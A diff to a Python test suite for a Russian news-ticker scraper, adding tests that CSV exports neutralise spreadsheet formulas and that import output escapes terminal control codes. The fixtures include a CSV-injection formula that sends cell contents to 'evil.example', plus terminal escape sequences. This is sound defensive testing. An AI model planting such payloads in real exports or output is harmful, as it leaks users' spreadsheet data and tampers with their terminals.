@@ -3,14 +3,18 @@ leaked a secret or stopped ticker without a word, now refused, bounded or said."
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
+import re
 from datetime import UTC, datetime
 from pathlib import Path
 
 import pytest
 from click.testing import CliRunner
 from helpers_front import build_history
+from helpers_import import Wayback
 from rbc_markup import render_item, render_page, standard_items
 
 from reliability import faultserver as fs
@@ -18,8 +22,10 @@ from reliability.support import rows, run_ticker
 from ticker.base import Headline, TickerPage, to_moscow_text
 from ticker.cli import main
 from ticker.commands.serve import make_datasette
+from ticker.datasette.plugins.ticker_csv import CsvRewriter
 from ticker.db.schema import open_db
 from ticker.db.writes import FetchRow, save_ticker
+from ticker.progress import progress
 from ticker.scraper.feed_rss import parse_feed
 from ticker.scraper.rbc_feed_json import parse_feed_json
 
@@ -190,3 +196,93 @@ def test_a_database_path_that_is_no_file_is_one_error_line(tmp_path, not_files):
             # commands that only read may say there is no database file there: also one line
             reason = said in lines[0] or (args[0] in ("status", "archive") and "no database at" in lines[0])
             assert len(lines) == 1 and lines[0].startswith("Error:") and reason, (args, result.output)
+
+
+# ---- 12. CSV exports never hand a spreadsheet a formula; import messages never drive a terminal
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")'
+FORMULA_ID = "674400009a79470000000f0f"
+
+
+@pytest.fixture
+def formula_history(tmp_path: Path) -> Path:
+    db_path = tmp_path / "ticker.db"
+    build_history(db_path)
+    db = open_db(db_path)
+    hostile = Headline(id=FORMULA_ID, url=None, title=FORMULA, rubric="@SUM(1+1)", kind="-2+3",
+                       published_at="2024-11-26T10:01:00Z", position=1)  # fmt: skip
+    row = FetchRow(
+        source="rbc", channel="page", url="http://test/rbc", started_at="2024-11-26T10:05:00Z", outcome="ok"
+    )
+    save_ticker(db, row, TickerPage(headlines=(hostile,)))
+    db.close()
+    return db_path
+
+
+def _formula_cells(text: str) -> list[str]:
+    """Cells a spreadsheet would evaluate: starting with = + - @ TAB CR, plain numbers aside."""
+    cells = [cell for record in csv.reader(io.StringIO(text, newline="")) for cell in record]
+    return [
+        c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"[+-][\d.]+", c)
+    ]
+
+
+def test_cli_csv_neutralises_formula_cells(formula_history):
+    runner = CliRunner()
+    for args in (["at", "2024-11-26T13:06"], ["changes", "--since", "2024-11-26T13:00"], ["rates"]):
+        result = runner.invoke(main, [*args, "--csv", "--db", str(formula_history)])
+        assert result.exit_code == 0, result.output
+        assert _formula_cells(result.output) == [], (args, result.output)
+        if args[0] != "rates":
+            assert "'" + FORMULA in next(
+                csv.reader([line for line in result.output.splitlines() if "HYPERLINK" in line])
+            )
+    rates = runner.invoke(main, ["rates", "--csv", "--db", str(formula_history)]).output
+    assert "+1.45" in rates.split(",") or ",+1.45" in rates  # a signed number stays a number
+
+
+async def test_datasette_csv_neutralises_formula_cells(formula_history):
+    ds = make_datasette(formula_history)
+    for path in ("/ticker/headline_titles.csv", "/ticker/headline_titles.csv?_stream=1",
+                 "/ticker/headlines.csv?_dl=1", "/ticker.csv?sql=select+title,+rubric+from+headline_titles,+headlines"):  # fmt: skip
+        response = await ds.client.get(path)
+        assert response.status_code == 200, (path, response.text[:300])
+        assert "HYPERLINK" in response.text or "headlines" in path
+        assert _formula_cells(response.text) == [], (path, response.text[:500])
+    html = await ds.client.get("/ticker/headline_titles")
+    assert html.status_code == 200 and "HYPERLINK" in html.text  # the HTML pages are untouched
+
+
+def test_csv_rewriter_handles_records_split_anywhere():
+    source = io.StringIO()
+    writer = csv.writer(source)  # Datasette's own dialect: CRLF, minimal quoting
+    records = [["id", "title"], [1, FORMULA], [2, 'line one\r\n"=still" inside'], [3, "-0.56"], [4, "@x"]]
+    writer.writerows(records)
+    data = source.getvalue().encode()
+    for size in (1, 2, 7, len(data)):
+        rewriter = CsvRewriter()
+        chunks = [data[i : i + size] for i in range(0, len(data), size)]
+        out = b"".join(rewriter.feed(chunk, final=n == len(chunks) - 1) for n, chunk in enumerate(chunks))
+        parsed = list(csv.reader(io.StringIO(out.decode(), newline="")))
+        assert parsed == [["id", "title"], ["1", "'" + FORMULA], ["2", 'line one\r\n"=still" inside'],
+                          ["3", "-0.56"], ["4", "'@x"]]  # fmt: skip
+
+
+ESCAPES = "\x1b]0;pwned\x07\x1b[2J\u202e"
+
+
+def test_import_messages_never_print_terminal_escapes(httpserver, tmp_path):
+    """Addresses and messages an archive controls reach the summary lines, warnings and the
+    progress notes as `\\u001b`-style text."""
+    archive = Wayback(httpserver)
+    archive.add(datetime(1970, 1, 1, tzinfo=UTC), "x", original=f"https://www.rbc.ru/{ESCAPES}")
+    archive.add(datetime(2022, 2, 24, 3, tzinfo=UTC), archive.plain(404, ESCAPES))
+    result = CliRunner().invoke(main, [
+        "import", "wayback", "rbc", "--cdx-url", archive.cdx_url, "--replay-url", archive.replay_url,
+        "--pause", "0", "--throttle-pause", "0", "--db", str(tmp_path / "t.db"),
+    ])  # fmt: skip
+    assert "\\u001b" in result.output, result.output
+    assert not any(char in result.output for char in "\x1b\x07\u202e")
+    stream = io.StringIO()
+    with progress(3, "importing", stream=stream) as bar:
+        bar.note(f"HTTP 429 from {ESCAPES}")
+    assert "\x1b" not in stream.getvalue() and "\\u001b" in stream.getvalue()
